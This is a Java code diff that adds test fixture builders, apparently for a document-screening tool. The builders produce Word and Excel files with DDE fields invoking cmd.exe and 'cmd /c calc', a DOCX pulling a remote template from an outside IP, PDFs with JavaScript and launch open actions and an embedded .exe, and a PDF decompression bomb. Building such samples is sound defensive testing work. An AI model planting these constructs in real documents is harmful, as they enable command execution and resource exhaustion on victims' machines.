@@ -6,9 +6,25 @@ import java.io.ByteArrayOutputStream;
 import java.io.IOException;
 import java.io.UncheckedIOException;
 import java.nio.charset.StandardCharsets;
+import java.util.Arrays;
+import java.util.Map;
+import java.util.function.Consumer;
+import java.util.zip.DeflaterOutputStream;
 import java.util.zip.ZipEntry;
+import java.util.zip.ZipInputStream;
 import java.util.zip.ZipOutputStream;
 import javax.imageio.ImageIO;
+import org.apache.pdfbox.pdmodel.PDDocument;
+import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
+import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
+import org.apache.pdfbox.pdmodel.PDPage;
+import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
+import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
+import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
+import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
+import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
+import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
+import org.apache.poi.hssf.record.crypto.Biff8EncryptionKey;
 import org.apache.poi.hssf.usermodel.HSSFWorkbook;
 import org.apache.poi.openxml4j.opc.OPCPackage;
 import org.apache.poi.openxml4j.opc.PackagingURIHelper;
@@ -153,5 +169,170 @@ public final class SampleMaterials {
                 files.writeFilesystem(out);
             }
         });
+    }
+
+    /** What a signed electronic paper of the government looks like from outside (GB/T 33190-2016). */
+    public static byte[] ofd() {
+        return zipOf(Map.of(
+                "OFD.xml",
+                "<ofd:OFD xmlns:ofd=\"http://www.ofdspec.org/2016\" Version=\"1.1\" DocType=\"OFD\"/>",
+                "Doc_0/Document.xml",
+                "<ofd:Document xmlns:ofd=\"http://www.ofdspec.org/2016\"/>"));
+    }
+
+    static byte[] ofdWithPassword() {
+        return zipOf(
+                Map.of("OFD.xml", "<ofd:OFD xmlns:ofd=\"http://www.ofdspec.org/2016\"/>", "Encryptions.xml", "<x/>"));
+    }
+
+    /** A zip of texts. */
+    static byte[] zipOf(Map<String, String> parts) {
+        return bytes(out -> {
+            try (ZipOutputStream zip = new ZipOutputStream(out)) {
+                for (Map.Entry<String, String> part : parts.entrySet()) {
+                    zip.putNextEntry(new ZipEntry(part.getKey()));
+                    zip.write(part.getValue().getBytes(StandardCharsets.UTF_8));
+                }
+            }
+        });
+    }
+
+    /** The same document with one more part. */
+    private static byte[] with(byte[] document, String name, String content) {
+        return bytes(out -> {
+            try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(document));
+                    ZipOutputStream zip = new ZipOutputStream(out)) {
+                for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
+                    if (!entry.getName().equals(name)) {
+                        zip.putNextEntry(new ZipEntry(entry.getName()));
+                        in.transferTo(zip);
+                    }
+                }
+                zip.putNextEntry(new ZipEntry(name));
+                zip.write(content.getBytes(StandardCharsets.UTF_8));
+            }
+        });
+    }
+
+    static byte[] docxWithRemoteTemplate() {
+        return with(
+                docx("x"),
+                "word/_rels/settings.xml.rels",
+                "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\""
+                        + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\""
+                        + " Target=\"http://198.51.100.7/t.dotm\" TargetMode=\"External\"/></Relationships>");
+    }
+
+    static byte[] docxWithLink() {
+        return with(
+                docx("x"),
+                "word/_rels/settings.xml.rels",
+                "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\""
+                        + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\""
+                        + " Target=\"http://www.ankang.gov.cn/\" TargetMode=\"External\"/></Relationships>");
+    }
+
+    /** The field's code stands in two pieces, as Word writes it after an edit. */
+    static byte[] docxWithDde() {
+        return with(
+                docx("x"),
+                "word/header1.xml",
+                "<w:hdr xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:p><w:r><w:instrText>"
+                        + "DDEA</w:instrText></w:r><w:r><w:instrText>UTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r></w:p></w:hdr>");
+    }
+
+    static byte[] xlsxWithDde() {
+        return with(
+                xlsx(),
+                "xl/externalLinks/externalLink1.xml",
+                "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><ddeLink"
+                        + " ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>");
+    }
+
+    static byte[] xlsxWithMacroSheet() {
+        return with(xlsx(), "xl/macrosheets/sheet1.xml", "<xm:macrosheet/>");
+    }
+
+    static byte[] xlsWithPassword() {
+        return bytes(out -> {
+            Biff8EncryptionKey.setCurrentUserPassword("secret");
+            try (HSSFWorkbook workbook = new HSSFWorkbook()) {
+                workbook.createSheet("2014").createRow(0).createCell(0).setCellValue(3);
+                workbook.write(out);
+            } finally {
+                Biff8EncryptionKey.setCurrentUserPassword(null);
+            }
+        });
+    }
+
+    /** A PDF with one page and with what is put into it. */
+    private static byte[] pdf(Consumer<PDDocument> more) {
+        return bytes(out -> {
+            try (PDDocument document = new PDDocument()) {
+                document.addPage(new PDPage());
+                more.accept(document);
+                document.save(out);
+            }
+        });
+    }
+
+    static byte[] pdfWithScript() {
+        return pdf(document -> document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert(1)")));
+    }
+
+    static byte[] pdfThatLaunches() {
+        return pdf(document -> document.getDocumentCatalog().setOpenAction(new PDActionLaunch()));
+    }
+
+    static byte[] pdfWithAFileInIt() {
+        return pdf(document -> {
+            PDComplexFileSpecification file = new PDComplexFileSpecification();
+            file.setFile("x.exe");
+            try {
+                file.setEmbeddedFile(new PDEmbeddedFile(document, new ByteArrayInputStream(exe())));
+            } catch (IOException e) {
+                throw new UncheckedIOException(e);
+            }
+            PDEmbeddedFilesNameTreeNode files = new PDEmbeddedFilesNameTreeNode();
+            files.setNames(Map.of("x", file));
+            PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
+            names.setEmbeddedFiles(files);
+            document.getDocumentCatalog().setNames(names);
+        });
+    }
+
+    /** The user password is asked for at opening; the other one only protects against changes. */
+    static byte[] pdfWithPassword(String toOpen) {
+        return pdf(document -> {
+            StandardProtectionPolicy policy = new StandardProtectionPolicy("owner", toOpen, new AccessPermission());
+            policy.setEncryptionKeyLength(128);
+            try {
+                document.protect(policy);
+            } catch (IOException e) {
+                throw new UncheckedIOException(e);
+            }
+        });
+    }
+
+    /** Two hundred megabytes of zeros where a reader looks for objects. */
+    static byte[] pdfThatUnpacksToTooMuch() {
+        byte[] packed = bytes(out -> {
+            try (DeflaterOutputStream deflated = new DeflaterOutputStream(out)) {
+                for (int i = 0; i < 200; i++) {
+                    deflated.write(new byte[1024 * 1024]);
+                }
+            }
+        });
+        return bytes(out -> {
+            out.write(pdf());
+            out.write(("9 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length " + packed.length + ">>stream\n")
+                    .getBytes(StandardCharsets.US_ASCII));
+            out.write(packed);
+            out.write("\nendstream endobj\n%%EOF\n".getBytes(StandardCharsets.US_ASCII));
+        });
+    }
+
+    static byte[] half(byte[] whole) {
+        return Arrays.copyOf(whole, whole.length * 2 / 3);
     }
 }
